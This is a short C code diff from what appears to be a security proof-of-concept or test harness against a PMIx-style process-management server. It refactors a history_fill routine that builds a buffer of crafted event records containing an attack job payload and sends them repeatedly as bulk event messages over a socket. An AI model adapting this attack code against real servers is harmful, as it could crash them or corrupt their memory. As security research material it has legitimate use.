@@ -178,7 +178,6 @@ static void history_fill(struct attacker *attacker)
                                     .range = PMIX_RANGE_CUSTOM,
                                     .target_count = (uint32_t)target_count };
     uint8_t *const all = calloc(1, size);
-    const struct iovec iov = { .iov_base = all, .iov_len = size };
 
     CHECK(all != NULL, "no memory");
     memcpy(all, &event, sizeof(event));
@@ -189,9 +188,7 @@ static void history_fill(struct attacker *attacker)
         memcpy(all + sizeof(event) + i * 24 + 8, ATTACK_JOB, head[1]);
     }
     for (uint32_t i = 1; i <= count; i++) {
-        CHECK_STATUS(sx_frame_send(attacker->socket_fd, SX_MSG_EVENT_BULK, i, &iov, 1, NULL, 0,
-                                   UINT64_MAX),
-                     PMIX_SUCCESS);
+        attack_large(attacker, SX_MSG_EVENT_BULK, i, all, size);
         (void)attack_expect_reply(attacker->socket_fd, i, PMIX_SUCCESS);
     }
     free(all);
